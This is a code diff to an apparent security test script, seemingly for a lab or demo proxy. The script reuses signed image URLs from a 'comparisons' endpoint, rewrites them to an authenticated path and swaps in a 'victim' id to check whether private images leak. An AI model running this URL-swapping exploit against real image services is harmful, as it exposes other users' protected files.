@@ -119,20 +119,23 @@ try {
     const decoy = await post(unsignedForm('victim', await photo(400, 300, 5)));
     const decoyId = decoy.status === 200 ? JSON.parse(new TextDecoder().decode(decoy.body)).public_id : 'victim';
     let last = { status: 0, ms: 0, error: '' };
+    const notes = [`decoy stored as ${decoyId}`];
     for (const id of new Set(['victim', decoyId])) {
       const cmp = await get(`${origin}/_dprox/demo/comparisons?public_id=${encodeURIComponent(id)}`);
+      notes.push(`comparisons for ${id}: ${cmp.status}`);
       if (cmp.status !== 200) {
-        last = { ...cmp, note: `comparisons for ${id}: ${cmp.status}` };
+        last = { ...cmp, note: notes.join('; ') };
         continue;
       }
       const text = new TextDecoder().decode(cmp.body);
       const ai = [...text.matchAll(/"url":"([^"]*s--[^"]*--[^"]*)"/g)].map((m) => m[1]);
       for (const u of ai) {
-        const swapped = u.replace('/image/upload/', '/image/authenticated/').replace(/\/v\d+\//, '/').replace(/^https?:\/\/[^/]+/, origin).replace(`/${decoyId}.`, '/victim.');
+        const swapped = u.replace('/image/upload/', '/image/authenticated/').replace(/\/v\d+\//, '/').replace(/^https?:\/\/[^/]+/, origin).replace(`/${decoyId}`, '/victim');
         let r = await get(swapped);
         for (let i = 0; i < 60 && r.status === 423; i++) r = (await new Promise((res) => setTimeout(res, 500)), await get(swapped));
         if (r.status === 200) return { ...r, note: `LEAK: ${swapped}` };
-        last = { ...r, note: `swapped AI URL answered ${r.status}` };
+        notes.push(`${swapped.slice(origin.length)} answered ${r.status}`);
+        last = { ...r, note: notes.join('; ') };
       }
     }
     return last;
